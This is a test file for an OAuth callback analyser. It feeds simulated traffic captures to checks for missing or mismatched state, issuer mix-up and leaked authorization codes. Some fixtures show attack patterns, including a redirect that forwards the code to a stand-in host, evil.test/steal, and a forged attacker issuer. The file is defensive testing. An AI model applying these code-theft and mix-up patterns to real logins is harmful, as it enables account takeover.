import { describe, expect, it } from 'vitest';
import { analyze } from '../../../src/core/flows/analyze.ts';
import { callbackChecks } from '../../../src/core/checks/callback.ts';
import { createContext } from '../../../src/core/checks/context.ts';
import type { CheckResult, RequestEvent } from '../../../src/core/model.ts';
import { capture } from '../../support/flow-builder.ts';

const CH = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM';
const V = 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';
const ST = 'af0ifjsldkjXk3Xa9wPq7r';
const CODE = 'SplxlOBeZQQYbYS6WxSbIA';
const RU = 'https%3A%2F%2Fapp.test%2Fcb';
const AUTH = `https://as.test/authorize?response_type=code&client_id=app&redirect_uri=${RU}&state=${ST}&code_challenge=${CH}&code_challenge_method=S256`;
const TOKEN = `POST https://as.test/token grant_type=authorization_code&code=${CODE}&redirect_uri=${RU}&client_id=app&code_verifier=${V} -> 200 {"access_token":"at-0123456789abcdef","token_type":"Bearer"}`;
const DISCOVERY = (extra: string) =>
  `[fetch] GET https://as.test/.well-known/openid-configuration -> 200 {"issuer":"https://as.test","authorization_endpoint":"https://as.test/authorize","token_endpoint":"https://as.test/token"${extra}}`;

/** An unsigned ID token with this payload (the checks here only read iss). */
const idToken = (payload: object) => `eyJhbGciOiJSUzI1NiJ9.${Buffer.from(JSON.stringify(payload)).toString('base64url')}.c2ln`;

async function run(events: RequestEvent[]): Promise<CheckResult> {
  return callbackChecks.run(createContext(analyze(events)));
}

interface Row {
  description: string;
  capture: RequestEvent[];
  expected: string[];
  notEvaluated?: string[];
}

const rows: Row[] = [
  {
    description: 'a clean callback (discovery without iss support)',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      ${TOKEN}
    `,
    expected: [],
  },
  // state.not-returned
  {
    description: 'state sent, response without state',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}
      GET https://app.test/cb?code=${CODE} -> 200
      ${TOKEN}
    `,
    expected: ['state.not-returned'],
  },
  {
    description: 'error response without state',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?error=access_denied
      GET https://app.test/cb?error=access_denied -> 200
    `,
    expected: ['state.not-returned'],
  },
  {
    description: 'silent-renew error callback with state echoed',
    capture: capture`
      ${DISCOVERY('')}
      [sub_frame] GET ${AUTH}&prompt=none -> 302 https://app.test/cb?error=login_required&state=${ST}
      [sub_frame] GET https://app.test/cb?error=login_required&state=${ST} -> 200
    `,
    expected: [],
  },
  {
    description: 'no state in the request: nothing to echo',
    capture: capture`
      ${DISCOVERY('')}
      GET https://as.test/authorize?response_type=code&client_id=app&redirect_uri=${RU}&code_challenge=${CH}&code_challenge_method=S256 -> 302 https://app.test/cb?code=${CODE}
      GET https://app.test/cb?code=${CODE} -> 200
      ${TOKEN}
    `,
    expected: [],
  },
  {
    description: 'a callback whose request is not in the capture',
    capture: capture`
      GET https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fas.test -> 200
      ${TOKEN}
    `,
    expected: [],
    notEvaluated: ['state.not-returned', 'state.mismatch-accepted', 'iss.mismatch'],
  },
  // state.mismatch-accepted
  {
    description: 'callback state differs and the code is redeemed',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 200
      GET https://app.test/cb?code=${CODE}&state=attackerStateValue123456 -> 200
      ${TOKEN}
    `,
    expected: ['state.mismatch-accepted'],
  },
  {
    description: 'callback state differs and the client stops',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 200
      GET https://app.test/cb?code=${CODE}&state=attackerStateValue123456 -> 200
    `,
    expected: [],
    notEvaluated: ['state.mismatch-accepted'],
  },
  // iss.missing
  {
    description: 'AS advertises iss support, response lacks iss',
    capture: capture`
      ${DISCOVERY(',"authorization_response_iss_parameter_supported":true')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      ${TOKEN}
    `,
    expected: ['iss.missing'],
  },
  {
    description: 'AS advertises iss support, response has it',
    capture: capture`
      ${DISCOVERY(',"authorization_response_iss_parameter_supported":true')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fas.test
      GET https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fas.test -> 200
      ${TOKEN}
    `,
    expected: [],
  },
  {
    description: 'no discovery, no iss: not evaluated',
    capture: capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      ${TOKEN}
    `,
    expected: [],
    notEvaluated: ['iss.missing'],
  },
  {
    description: 'AS advertises iss support, the response carries an ID token instead (its iss claim names the issuer)',
    capture: capture`
      ${DISCOVERY(',"authorization_response_iss_parameter_supported":true')}
      GET https://as.test/authorize?response_type=id_token&client_id=app&redirect_uri=${RU}&state=${ST}&nonce=n-0S6_WzA2Mj -> 302 https://app.test/cb#id_token=${idToken({ iss: 'https://as.test', aud: 'app' })}&state=${ST}
      GET https://app.test/cb -> 200
    `,
    expected: [],
    notEvaluated: [],
  },
  // iss.mismatch
  {
    description: 'response iss differs from the discovery issuer',
    capture: capture`
      ${DISCOVERY(',"authorization_response_iss_parameter_supported":true')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fattacker.test
      GET https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fattacker.test -> 200
      ${TOKEN}
    `,
    expected: ['iss.mismatch'],
  },
  {
    description: 'no discovery: iss compared with the ID token iss',
    capture: capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fattacker.test
      GET https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fattacker.test -> 200
      POST https://as.test/token grant_type=authorization_code&code=${CODE}&redirect_uri=${RU}&client_id=app&code_verifier=${V} -> 200 {"access_token":"at-0123456789abcdef","id_token":"${idToken({ iss: 'https://as.test', aud: 'app' })}"}
    `,
    expected: ['iss.mismatch'],
  },
  {
    description: 'no discovery: iss equal to the ID token iss',
    capture: capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fas.test
      GET https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Fas.test -> 200
      POST https://as.test/token grant_type=authorization_code&code=${CODE}&redirect_uri=${RU}&client_id=app&code_verifier=${V} -> 200 {"access_token":"at-0123456789abcdef","id_token":"${idToken({ iss: 'https://as.test', aud: 'app' })}"}
    `,
    expected: [],
  },
  {
    description: 'no discovery: a scheme-less legacy ID token iss (Google) names the same issuer',
    capture: capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Faccounts.google.test
      GET https://app.test/cb?code=${CODE}&state=${ST}&iss=https%3A%2F%2Faccounts.google.test -> 200
      POST https://as.test/token grant_type=authorization_code&code=${CODE}&redirect_uri=${RU}&client_id=app&code_verifier=${V} -> 200 {"access_token":"at-0123456789abcdef","id_token":"${idToken({ iss: 'accounts.google.test', aud: 'app' })}"}
    `,
    expected: [],
  },
  // code.forwarded
  {
    description: 'open redirector on the callback forwards the code',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 302 https://evil.test/steal?c=${CODE}
      GET https://evil.test/steal?c=${CODE} -> 200
    `,
    expected: ['code.forwarded:high'],
    notEvaluated: [],
  },
  {
    description: 'an analytics beacon carries the page URL with the code',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      [image] GET https://analytics.test/collect?dl=https%3A%2F%2Fapp.test%2Fcb%3Fcode%3D${CODE}%26state%3D${ST} -> 204
      ${TOKEN}
    `,
    expected: ['code.forwarded:high'],
  },
  {
    description: 'the client script sends the code to another origin (its backend?): medium',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      [fetch] GET https://api.app-backend.test/login?code=${CODE} -> 200
        > Origin: https://app.test
    `,
    expected: ['code.forwarded:medium'],
  },
  {
    description: 'a Google-style code with a slash, forwarded percent-encoded',
    capture: capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=4%2F0AeanS0ZrT9xYb7Qk2mLp&state=${ST}
      GET https://app.test/cb?code=4%2F0AeanS0ZrT9xYb7Qk2mLp&state=${ST} -> 200
      [image] GET https://analytics.test/collect?dl=https%3A%2F%2Fapp.test%2Fcb%3Fcode%3D4%252F0AeanS0ZrT9xYb7Qk2mLp -> 204
      [image] GET https://analytics.test/collect?dl=https%3A%2F%2Fapp.test%2Fcb%3Fcode%3D4%252F0AeanS0ZrT9xYb7Qk2mLp&t=2 -> 204
    `,
    expected: ['code.forwarded'],
    notEvaluated: ['iss.missing'],
  },
  {
    description: 'the code only goes to the client and the AS',
    capture: capture`
      ${DISCOVERY('')}
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 302 https://app.test/home?from=${CODE}
      GET https://app.test/home?from=${CODE} -> 200
      GET https://as.test/token?code=${CODE} -> 400
    `,
    expected: [],
  },
];

describe('callback checks', () => {
  for (const row of rows) {
    it(row.description, async () => {
      const result = await run(row.capture);
      const severityIds = new Set(row.expected.filter((e) => e.includes(':')).map((e) => e.split(':')[0]));
      expect(result.findings.map((f) => (severityIds.has(f.check) ? `${f.check}:${f.severity}` : f.check)).sort()).toEqual([...row.expected].sort());
      if (row.notEvaluated) expect(result.notEvaluated.map((n) => n.check).sort()).toEqual([...row.notEvaluated].sort());
    });
  }

  it('masks the forwarded code in the excerpt, even percent-encoded inside another URL', async () => {
    const result = await run(capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      [image] GET https://analytics.test/collect?dl=https%3A%2F%2Fapp.test%2Fcb%3Fcode%3D${CODE} -> 204
    `);
    expect(result.findings.map((f) => f.check)).toEqual(['code.forwarded']);
    expect(JSON.stringify(result.findings)).not.toContain(CODE);
  });

  it('masks a forwarded code that sits where the excerpt is clipped', async () => {
    const pad = 'x'.repeat(270);
    const result = await run(capture`
      GET ${AUTH} -> 302 https://app.test/cb?code=${CODE}&state=${ST}
      GET https://app.test/cb?code=${CODE}&state=${ST} -> 200
      [image] GET https://analytics.test/collect?p=${pad}&u=${CODE} -> 204
    `);
    expect(result.findings.map((f) => f.check)).toEqual(['code.forwarded']);
    expect(JSON.stringify(result.findings)).not.toContain(CODE.slice(0, 8));
  });
});
